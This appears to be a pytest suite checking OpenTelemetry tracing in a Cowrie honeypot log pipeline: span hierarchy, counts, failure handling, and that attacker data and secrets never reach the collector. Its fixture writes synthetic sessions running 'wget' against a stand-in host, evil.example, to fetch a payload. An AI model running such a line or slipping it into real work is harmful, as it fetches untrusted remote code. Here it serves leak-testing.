"""A run as a collector sees it: one trace from the command to the rows written, and no word of an attacker's."""

import sqlite3
import subprocess
import sys
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from uuid import UUID

import pytest

from cowrie_pipeline_tests.cli.processes import PROJECT, SCRIPTS, TIMEOUT, cowrie_pipeline, environment, report_of
from cowrie_pipeline_tests.conftest import Databases
from cowrie_pipeline_tests.contract import services
from cowrie_pipeline_tests.contract.collector import Collector, Trace
from cowrie_pipeline_tests.contract.http_server import Answer
from cowrie_pipeline_tests.end_to_end.loopback import ALL, HOSTED, UNLISTED, loopback
from cowrie_pipeline_tests.steps.made_days import closed, command, connect, download, login, write_log

DAY = "2026-03-02"
STEPS = {
    "raw_sessions",
    "ip_inventory",
    "session_snapshots",
    "asn_session_counts",
    "file_reputation",
    "password_exposure",
    "attack_report",
    "attack_report_30_days",
}
# What attackers said, and what is ours alone: none of it may be in anything that is sent to a collector.
PASSWORD, COMMAND, URL = "pw-0f9d8c7b", "cmd-5a4b3c2d", "http://evil.example/payload-7e6f"
HEADER = "header-1b2c3d4e"
SECRETS = (PASSWORD, COMMAND, URL, "evil.example", HEADER, services.KEY, "hidden-database-user", *ALL)


@dataclass(frozen=True)
class Traced:
    """What one command came to, and what the collector got of it."""

    report: dict[str, Any]
    trace: Trace
    sent: bytes
    headers: list[str]


def write_attacks(path: Path) -> Path:
    """Write a session of each address, one of which moves a file."""
    events = []
    for number, address in enumerate(ALL):
        its = {"session": f"{number:012x}", "src_ip": address}
        events.append(connect(f"{DAY} 10:00", **its))
        events.append(login(f"{DAY} 10:01", password=PASSWORD, succeeded=True, **its))
        events.append(command(f"{DAY} 10:02", f"wget {URL}; {COMMAND}", **its))
        if address in (HOSTED, UNLISTED):
            events.append({**download(f"{DAY} 10:03", f"{number:064x}", **its), "url": URL})
        events.append(closed(f"{DAY} 10:05", **its))
    return write_log(path, events)


def sent_to(collector: Collector) -> dict[str, str]:
    return {"OTEL_EXPORTER_OTLP_ENDPOINT": collector.url, "OTEL_EXPORTER_OTLP_HEADERS": f"x-token={HEADER}"}


@pytest.fixture(scope="module")
def traced(tmp_path_factory: pytest.TempPathFactory, databases: Databases) -> Iterator[Traced]:
    """One run over everything that the cascade asks, of which one service is down."""
    folder = tmp_path_factory.mktemp("traced")
    url = databases.empty()
    with Collector() as collector, loopback(folder / "state") as world:
        variables = {
            **world.environment,
            **sent_to(collector),
            "COWRIE_OFFLINE": "false",
            "COWRIE_DB_URL": url,
            "COWRIE_SPUR_URL": "http://127.0.0.1:1/spur",
            "COWRIE_PWNED_PASSWORDS_ENABLED": "false",
        }
        log = write_attacks(folder / "cowrie.json")
        report = report_of(cowrie_pipeline(folder, "run", "--logs", log, "--json", **variables))
    yield Traced(
        report,
        collector.trace,
        b"".join(asked.body for asked in collector.asked),
        [asked.headers.get("x-token", "") for asked in collector.asked],
    )
    databases.drop(url)


def test_a_run_is_one_trace_from_the_command_to_its_steps(traced: Traced) -> None:
    trace = traced.trace
    root = trace.one("cowrie-pipeline run")
    assert not root.parent_id
    assert root.attributes == {"process.exit.code": 0}
    assert not root.has_failed
    assert root.resource["service.name"] == "cowrie_pipeline"
    of_dagster = trace.one("dagster run")
    assert trace.path(of_dagster) == ["cowrie-pipeline run", "dagster run"]
    assert [of_dagster.attributes["dagster.run_id"]] == traced.report["runs"]
    for step in STEPS:
        span = trace.one(f"step {step}")
        assert trace.path(span) == ["cowrie-pipeline run", "dagster run", f"step {step}"]
        assert not span.has_failed
    # before the materialization, and in it, where nothing new is left to read
    assert sorted(trace.path(span)[-2] for span in trace.named("step scan_logs")) == [
        "cowrie-pipeline run",
        "step raw_sessions",
    ]


def test_every_span_lies_within_the_one_above_it(traced: Traced) -> None:
    by_id = {span.span_id: span for span in traced.trace.spans}
    for span in traced.trace.spans:
        assert span.started_ns <= span.ended_ns
        if span.parent_id:
            parent = by_id[span.parent_id]
            assert parent.started_ns <= span.started_ns, (parent.name, span.name)
            assert span.ended_ns <= parent.ended_ns, (parent.name, span.name)


def test_steps_chunks_and_writes_carry_the_counts_of_the_run(traced: Traced) -> None:
    trace, report = traced.trace, traced.report
    reading = trace.one("read file")
    assert trace.path(reading)[-2:] == ["step scan_logs", "read file"]
    assert reading.attributes["cowrie.lines"] == report["lines"]
    assert reading.attributes["cowrie.events"] == report["events"]
    making = trace.one("make days")
    assert (making.attributes["cowrie.first_day"], making.attributes["cowrie.events"]) == (DAY, report["events"])
    folding = trace.one("fold lines")
    assert folding.attributes == {"cowrie.day": DAY, "cowrie.session_days": len(ALL)}
    assert trace.path(folding)[-4:] == ["step raw_sessions", "make days", "database write", "fold lines"]
    inventory = trace.one("step ip_inventory").attributes
    assert inventory["cowrie.addresses_due"] == len(ALL)
    assert trace.one("step asn_session_counts").attributes["cowrie.sessions"] == len(ALL)
    rows = Counter[str]()
    for span in trace.named("database write"):
        for name, value in span.attributes.items():
            if name.startswith("cowrie.rows."):
                rows[name.removeprefix("cowrie.rows.")] += value
    assert (rows["login_attempts"], rows["commands"], rows["session_files"]) == (len(ALL), len(ALL), 2)
    assert rows["staged_addresses"] == len(ALL)


def test_every_write_says_which_lock_it_took_and_when(traced: Traced) -> None:
    writes = traced.trace.named("database write")
    assert {"facts", "scan", "schema", "file_reputation"} <= {span.attributes["cowrie.lock"] for span in writes}
    assert {span.attributes["db.system.name"] for span in writes} <= {"sqlite", "postgresql"}
    assert all([name for name, _ in span.events] == ["lock taken"] for span in writes)


def test_every_source_that_was_asked_has_a_span_with_its_outcomes(traced: Traced) -> None:
    trace = traced.trace
    sources = {span.attributes["cowrie.source"]: span for span in trace.named("source")}
    assert {"maxmind", "cymru", "tor", "greynoise", "dshield", "abuseipdb", "spur", "rir"} <= sources.keys()
    maxmind = sources["maxmind"]
    assert trace.path(maxmind)[-3:] == ["step ip_inventory", "look up addresses", "source"]
    asked = maxmind.attributes
    assert asked["cowrie.asked"] == asked["cowrie.keys"] == len(ALL) - 1  # nobody is asked about a bogon
    assert asked["cowrie.outcomes.hit"] + asked["cowrie.outcomes.not_found"] == asked["cowrie.asked"]
    outcomes = trace.one("step ip_inventory").attributes
    for name, span in sources.items():
        if f"cowrie.look_ups.{name}.hit" in outcomes and "cowrie.outcomes.hit" in span.attributes:
            hits = sum(
                each.attributes.get("cowrie.outcomes.hit", 0)
                for each in trace.named("source")
                if each.attributes["cowrie.source"] == name
            )
            assert hits == outcomes[f"cowrie.look_ups.{name}.hit"]


def test_a_source_that_gave_no_answer_has_failed_while_the_run_has_not(traced: Traced) -> None:
    failed = [span for span in traced.trace.spans if span.has_failed]
    assert {span.attributes.get("cowrie.source") for span in failed} == {"spur"}
    assert {span.why for span in failed} == {"no answer"}


def test_a_network_that_was_created_has_a_span_that_says_what_it_is(traced: Traced) -> None:
    trace = traced.trace
    writing = trace.named("write networks")[0]
    assert trace.path(writing)[-3:] == ["step ip_inventory", "database write", "write networks"]
    created = {span.attributes["asn.number"]: span for span in trace.named("create network")}
    assert writing.attributes["asn.created"] == writing.attributes["asn.networks"] == len(created)
    assert writing.attributes["asn.updated"] == 0
    unlisted = dict(created[4500].attributes)
    assert unlisted.pop("asn.operation_duration_ms") == writing.attributes["asn.operation_duration_ms"] > 0
    assert unlisted == {
        "asn.number": 4500,
        "asn.organization": "UNLISTED-4500 - Unlisted",
        "asn.country": "RU",
        "asn.rir": "ripencc",
        "asn.operation": "create",
    }


def test_nothing_of_attackers_and_no_secret_is_sent(traced: Traced) -> None:
    assert len(traced.sent) > 5_000
    for secret in SECRETS:
        assert secret.encode() not in traced.sent, secret
    # what is for the collector alone comes with each request
    assert set(traced.headers) == {HEADER}


def test_a_step_that_fails_has_its_error_on_its_span_without_what_it_says(tmp_path: Path) -> None:
    write_attacks(tmp_path / "logs" / "cowrie.json")
    (tmp_path / "var").mkdir()
    (tmp_path / "var" / "reports").write_text("a file where a folder should be")
    with Collector() as collector:
        done = cowrie_pipeline(tmp_path, "run", "--logs", tmp_path / "logs", "--json", **sent_to(collector))
    assert done.returncode == 1, done.stderr
    trace = collector.trace
    step = trace.one("step attack_report")
    assert step.has_failed
    ((name, error),) = step.events
    assert (name, set(error)) == ("exception", {"exception.type"})
    assert error["exception.type"].endswith("Error")
    assert (trace.one("dagster run").has_failed, trace.one("dagster run").why) == (True, "a step failed")
    root = trace.one("cowrie-pipeline run")
    assert (root.has_failed, root.attributes["process.exit.code"]) == (True, 1)
    assert not trace.one("step raw_sessions").has_failed
    assert str(tmp_path).encode() not in b"".join(asked.body for asked in collector.asked)


WITH_WORKERS = """
import sys
from cowrie_pipeline.steps import raw_sessions, scan_logs
scan_logs._BYTES_WORTH_WORKERS = raw_sessions._EVENTS_WORTH_A_WORKER = 1
scan_logs.spare_cores = raw_sessions.spare_cores = lambda beside: 2
from cowrie_pipeline.cli.main import app
app()
"""


def test_what_worker_processes_do_is_in_the_trace_of_the_run(tmp_path: Path) -> None:
    for number in range(4):
        write_attacks(tmp_path / "logs" / f"{number}" / "cowrie.json")
    with Collector() as collector:
        done = subprocess.run(
            [sys.executable, "-c", WITH_WORKERS, "run", "--logs", str(tmp_path / "logs"), "--json"],
            cwd=tmp_path,
            env=environment(tmp_path, **sent_to(collector)),
            capture_output=True,
            text=True,
            timeout=TIMEOUT,
            check=False,
        )
    report_of(done)
    trace = collector.trace
    root = trace.one("cowrie-pipeline run")
    ahead, folded = trace.named("read file ahead"), trace.named("fold lines")
    assert len(ahead) == 4
    assert all(trace.path(span)[-2:] == ["step scan_logs", "read file ahead"] for span in ahead)
    assert all(span.attributes["cowrie.was_read"] for span in ahead)
    assert [trace.path(span)[-3:] for span in folded] == [["make days", "database write", "fold lines"]]
    workers = {span.attributes["process.pid"] for span in (*ahead, *folded)}
    assert workers
    assert root.resource["process.pid"] not in workers


def test_a_collector_that_never_answers_costs_its_spans_and_nothing_else(tmp_path: Path) -> None:
    """It may take an hour for each request: the process ends long before."""
    write_attacks(tmp_path / "logs" / "cowrie.json")
    with Collector(Answer(never=True)) as collector:
        done = cowrie_pipeline(
            tmp_path,
            *("run", "--logs", tmp_path / "logs", "--json"),
            **sent_to(collector),
            OTEL_EXPORTER_OTLP_TIMEOUT="3600",
        )
        assert collector.asked
    assert report_of(done)["ok"]
    (said,) = done.stderr.splitlines()
    assert said == f"spans and metrics do not arrive at {collector.url}; the work goes on without them"


def test_a_collector_that_is_not_there_is_said_once_without_what_its_url_hides(tmp_path: Path) -> None:
    write_attacks(tmp_path / "logs" / "cowrie.json")
    done = cowrie_pipeline(
        tmp_path,
        *("run", "--logs", tmp_path / "logs", "--json"),
        OTEL_EXPORTER_OTLP_TRACES_ENDPOINT="http://user:hunter2@127.0.0.1:1/v1/traces?key=hunter2",
    )
    assert report_of(done)["ok"]
    assert done.stderr.splitlines() == [
        "spans and metrics do not arrive at http://127.0.0.1:1; the work goes on without them"
    ]


def test_the_trace_of_a_run_that_dagster_starts_has_the_id_of_the_run(tmp_path: Path) -> None:
    write_attacks(tmp_path / "logs" / "cowrie.json")
    with Collector() as collector:
        done = subprocess.run(
            [
                *(SCRIPTS / "dagster", "asset", "materialize", "-m", "cowrie_pipeline.definitions"),
                *("--select", "raw_sessions,ip_inventory,asn_inventory", "--partition", DAY),
            ],
            cwd=PROJECT,
            env=environment(tmp_path, COWRIE_LOGS=tmp_path / "logs", DAGSTER_HOME=tmp_path, **sent_to(collector)),
            capture_output=True,
            text=True,
            timeout=TIMEOUT,
            check=False,
        )
    assert done.returncode == 0, done.stderr[-3000:]
    trace = collector.trace
    root = trace.one("dagster run")
    assert not root.parent_id
    assert UUID(root.trace_id) == UUID(root.attributes["dagster.run_id"])
    assert trace.path(trace.one("step ip_inventory")) == ["dagster run", "step ip_inventory"]


WITHOUT_SDK = """
import sys

class Absent:
    def find_spec(self, name, path=None, target=None):
        if name.startswith(("opentelemetry.sdk", "opentelemetry.exporter", "opentelemetry.proto")):
            raise ModuleNotFoundError(f"No module named {name!r}", name=name)

sys.meta_path.insert(0, Absent())
from cowrie_pipeline.cli.main import app
app()
"""


@pytest.mark.parametrize("endpoint", ["", "http://127.0.0.1:1"], ids=["nowhere to send", "an endpoint"])
def test_a_run_without_the_sdk_is_a_run(tmp_path: Path, endpoint: str) -> None:
    log = write_attacks(tmp_path / "logs" / "cowrie.json")
    done = subprocess.run(
        [sys.executable, "-c", WITHOUT_SDK, "run", "--logs", str(log), "--json"],
        cwd=tmp_path,
        env=environment(tmp_path, OTEL_EXPORTER_OTLP_ENDPOINT=endpoint),
        capture_output=True,
        text=True,
        timeout=TIMEOUT,
        check=False,
    )
    assert report_of(done)["ok"]
    with sqlite3.connect(tmp_path / "var" / "cowrie.db") as connection:
        assert connection.execute("SELECT COUNT(*) FROM session_summaries").fetchone() == (len(ALL),)
    connection.close()
    wanted = "spans and metrics are not sent, although an endpoint is set: pip install 'cowrie_pipeline[otel]'"
    assert done.stderr.splitlines() == ([wanted] if endpoint else [])
